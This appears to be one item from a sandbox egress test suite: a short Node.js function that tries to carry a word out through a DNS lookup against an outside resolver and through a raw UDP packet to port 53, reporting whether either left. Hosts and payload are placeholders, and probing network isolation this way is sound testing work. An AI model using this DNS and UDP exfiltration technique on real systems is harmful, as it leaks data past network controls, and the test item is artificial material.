// attack: carries a word out in the name it asks for, and in a packet without connection | family: kernel | item: ask-status | verdicts: fail, timeout | points: 0 | tiers: T2
import { createSocket } from 'node:dgram'
import { Resolver } from 'node:dns/promises'
import { writeSync } from 'node:fs'

export const askStatus = async () => {
  writeSync(1, 'tried')
  const resolver = new Resolver({ timeout: 200, tries: 1 })
  resolver.setServers(['192.0.2.53', '127.0.0.53'])
  await resolver
    .resolve4('word.example')
    .then(() => writeSync(1, 'reached: dns'))
    .catch(() => {})
  const socket = createSocket('udp4')
  const error = await new Promise((resolve) => socket.send('word', 53, '192.0.2.53', resolve))
  if (!error) writeSync(1, 'reached: a packet left')
  socket.close()
}
